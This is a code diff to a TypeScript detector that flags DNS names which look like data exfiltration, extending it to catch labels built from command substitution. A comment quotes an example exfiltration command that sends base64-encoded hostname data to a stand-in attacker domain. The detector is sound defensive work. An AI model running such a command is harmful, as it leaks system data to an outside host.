@@ -210,12 +210,19 @@ const NON_EXFIL_SUFFIXES = [".amazonaws.com", ".amazonaws.com.cn", ".cluster.loc
 
 /**
  * Why a DNS name looks like data being exfiltrated through DNS, or undefined: a name over 100
- * characters, a label over 40, or a label of 24+ characters that reads as hex, base32 or base64.
+ * characters, a label over 40, a label of 24+ characters that reads as hex, base32 or base64, or a
+ * label built from a command substitution (`$(…).evil.tld`, as exec sessions show it).
  */
 export function exfiltrationLook(name: string): string | undefined {
   const host = name.toLowerCase().replace(/\.$/, "");
-  if (host.length < 24 || isIPAddress(host)) return undefined;
   if (NON_EXFIL_SUFFIXES.some((suffix) => host.endsWith(suffix))) return undefined;
+  // `dig $(cat /etc/hostname | base64).evil.tld` as typed in an exec session: the data is not in the
+  // text yet, but a label made of command output under a fixed domain is how DNS exfiltration is written.
+  if (host.includes("$(") || host.includes("`")) {
+    const close = Math.max(host.lastIndexOf(")"), host.lastIndexOf("`"));
+    if (close !== -1 && /\.[a-z0-9_-]/.test(host.slice(close))) return "a label built from command output";
+  }
+  if (host.length < 24 || isIPAddress(host)) return undefined;
   if (host.length > 100) return `name of ${host.length} characters`;
   const labels = name.replace(/\.$/, "").split(".");
   for (const label of labels) {
